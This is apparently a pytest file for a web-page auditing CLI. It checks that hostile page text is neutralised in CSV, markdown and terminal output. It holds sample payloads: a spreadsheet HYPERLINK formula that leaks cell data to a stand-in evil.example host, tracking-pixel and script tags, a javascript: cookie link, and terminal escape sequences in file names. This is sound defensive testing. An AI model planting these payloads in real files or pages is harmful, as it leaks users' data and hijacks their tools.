"""Page text is hostile input: it must reach a CSV as text a spreadsheet will not run, a
markdown report as text a renderer will not turn into HTML, images or links, and a terminal as
text that cannot drive it."""
import csv
import io
import json
import re
import threading

from markdown_it import MarkdownIt

from conftest import run_cli
from siteserver import SmallSite, ThreadingHTTPServer, make_small_handler

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str):
    for row in csv.reader(io.StringIO(text)):
        yield from row


def test_csv_cells_that_could_start_a_formula_are_neutralised(tmp_path):
    f = tmp_path / "=evil.txt"
    f.write_text(f"{FORMULA} Satisfaction guaranteed.\n+1 555 0100 Our exosome therapy is FDA approved.\n"
                 "@SUM(1+1) We guarantee results.\n", encoding="utf-8")
    r = run_cli("scan", "--format", "csv", f)
    assert r.returncode == 0, r.stderr.decode()
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode())))
    assert len(rows) >= 3
    for cell in _cells(r.stdout.decode()):
        assert not cell.startswith(FORMULA_STARTS), cell
    sentences = {row["sentence"] for row in rows}
    assert any(s.startswith("'" + FORMULA) for s in sentences)           # kept, readable, inert
    assert any(s.startswith("'+1 555 0100") for s in sentences)
    assert any(s.startswith("'@SUM(1+1)") for s in sentences)
    assert rows[0]["target"] == str(f)
    assert all(float(row["points"]) > 0 for row in rows)                  # numbers stay numbers


def test_batch_summary_csv_neutralises_formulas_from_the_input_list(tmp_path):
    site = SmallSite(1)
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), make_small_handler(site))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{httpd.server_address[1]}/"
        inp = tmp_path / "clinics.csv"
        with open(inp, "w", newline="", encoding="utf-8") as fh:
            w = csv.writer(fh)
            w.writerow(["url", "name", "-cmd"])
            w.writerow([url, FORMULA, "\t=1+1"])
        out = tmp_path / "out"
        r = run_cli("batch", inp, "--allow-private", "--output-dir", out, "--delay", "0", "--jitter", "0", "--max-pages", "1",
                    "--formats", "json", "-q")
        assert r.returncode == 0, r.stderr.decode()
    finally:
        httpd.shutdown()
        httpd.server_close()
    # `export` writes the summary again, from the store
    r = run_cli("export", "1", "--db", out / "auditor.db", "--output-dir", tmp_path / "export", "--formats", "json")
    assert r.returncode == 0, r.stderr.decode()
    for path in (out / "run-1" / "summary.csv", tmp_path / "export" / "summary.csv"):
        text = path.read_text(encoding="utf-8")
        for cell in _cells(text):
            assert not cell.startswith(FORMULA_STARTS), cell
        row = next(csv.DictReader(io.StringIO(text)))
        assert row["name"] == "'" + FORMULA and row["'-cmd"] == "'\t=1+1"
        assert float(row["score"]) > 0


HOSTILE_TEXT = ('Satisfaction guaranteed <img src="http://evil.example/pixel.gif?who=regulator"> for you. '
                "[Read more](javascript:alert(document.cookie)) We guarantee results. "
                "![x](http://evil.example/track.png) Our exosome therapy is FDA approved. "
                "<script>alert(1)</script> Stem cells cure everything. <http://evil.example/auto> "
                "`code` *bold* Limited time offer: book this week.\r# heading? We guarantee results.\n")


def _inline_tokens(tokens):
    for t in tokens:
        yield t
        yield from _inline_tokens(t.children or [])


def test_markdown_report_keeps_page_markup_as_text(tmp_path):
    src = tmp_path / "hostile.txt"
    src.write_text(HOSTILE_TEXT, encoding="utf-8")
    html_src = tmp_path / "hostile.html"
    html_src.write_text("<html><body><p>" + HOSTILE_TEXT.replace("&", "&amp;").replace("<", "&lt;")
                        + "</p></body></html>", encoding="utf-8")
    r = run_cli("scan", "--format", "markdown", src, html_src)
    assert r.returncode == 0, r.stderr.decode()
    both = r.stdout.decode()
    assert both.count("# Audit of ") == 2
    for md in ("# Audit of " + part for part in both.split("# Audit of ")[1:]):
        assert "guarantee" in md
        blocks = MarkdownIt("commonmark", {"html": True}).parse(md)
        tokens = list(_inline_tokens(blocks))
        kinds = {t.type for t in tokens}
        assert not kinds & {"html_inline", "html_block", "image"}, kinds
        hrefs = [t.attrs.get("href") for t in tokens if t.type == "link_open"]
        assert not any("javascript" in h or "evil" in h for h in hrefs), hrefs
        headings = [blocks[i + 1].content for i, t in enumerate(blocks) if t.type == "heading_open"]
        assert headings and not any("heading?" in h for h in headings), headings
        rendered = MarkdownIt("commonmark", {"html": True}).render(md)
        # the evidence is still there, as text a reader sees
        assert '&lt;img src="http://evil.example/pixel.gif?who=regulator"&gt;' in rendered.replace("&quot;", '"')
        assert "[Read more](javascript:alert(document.cookie))" in rendered
        assert "<img" not in rendered and "<script" not in rendered and "<em>" not in rendered


def _scanned(tmp_path, name: str, text: str):
    """The report a CLI scan printed as JSON, read back."""
    from auditor.model import report_from_dict
    src = tmp_path / name
    src.write_text(text, encoding="utf-8")
    r = run_cli("scan", "--format", "json", src)
    assert r.returncode == 0, r.stderr.decode()
    return report_from_dict(json.loads(r.stdout))


def test_csv_review_columns_are_neutralised_too(tmp_path, auditor):
    """A reviewer's reason and name are typed by people, and may be pasted from a page."""
    from auditor.report import FORMATTERS
    from auditor.review import apply, review_key
    rep = _scanned(tmp_path, "clinic.txt", "Satisfaction guaranteed. Our exosome therapy is FDA approved.\n")
    found = list(rep.findings())
    assert len(found) >= 2
    decided = {review_key(found[0].category, found[0].text): {"decision": "dismissed", "reason": FORMULA,
                                                               "reviewer": "@evil", "decided_at": "2026-12-03T00:00:00Z"},
               review_key(found[1].category, found[1].text): {"decision": "confirmed", "reason": "-2+3",
                                                               "reviewer": "+J. Doe", "decided_at": "2026-12-03T00:00:00Z"}}
    apply(rep, rep.target, decided, auditor.rules.scoring, auditor.weights)
    out = io.StringIO()
    FORMATTERS["csv"]([rep], out, {})
    for cell in _cells(out.getvalue()):
        assert not cell.startswith(FORMULA_STARTS), cell
    rows = {row["review"]: row for row in csv.DictReader(io.StringIO(out.getvalue())) if row["review"]}
    assert rows["dismissed"]["review_reason"] == "'" + FORMULA and rows["dismissed"]["reviewer"] == "'@evil"
    assert rows["confirmed"]["review_reason"] == "'-2+3" and rows["confirmed"]["reviewer"] == "'+J. Doe"
    assert rows["dismissed"]["tool"].startswith("auditor ")


class _Terminal(io.StringIO):
    def isatty(self):
        return True


def test_terminal_shows_control_characters_from_inputs_as_question_marks(tmp_path):
    """ESC and BEL from a page or a file name could retitle or rewrite the reader's terminal; rich
    adds its own colour codes on a terminal, but none of the input's."""
    from auditor.model import report_from_dict
    from auditor.report import FORMATTERS
    hostile = "clinic\x1b]0;pwned\x07.txt"
    missing = tmp_path / "gone\x1b[2J.txt"
    (tmp_path / hostile).write_text("Satisfaction guaranteed.\n", encoding="utf-8")
    r = run_cli("scan", "--format", "jsonl", tmp_path / hostile, missing)
    assert r.returncode == 2, r.stderr.decode()                 # the missing input
    reps = [report_from_dict(json.loads(line)) for line in r.stdout.splitlines()]
    for out in (io.StringIO(), _Terminal()):
        FORMATTERS["terminal"](reps, out, {})
        text = out.getvalue()
        plain = re.sub(r"\x1b\[[0-9;]*m", "", text)               # rich's colours (SGR) only
        assert ("\x1b[" in text) == isinstance(out, _Terminal)    # colour only on a terminal
        assert "\x1b" not in plain and "\x07" not in plain, repr(text)
        assert "clinic?]0;pwned?.txt: score " in plain and "gone?[2J.txt: not audited: " in plain, repr(plain)
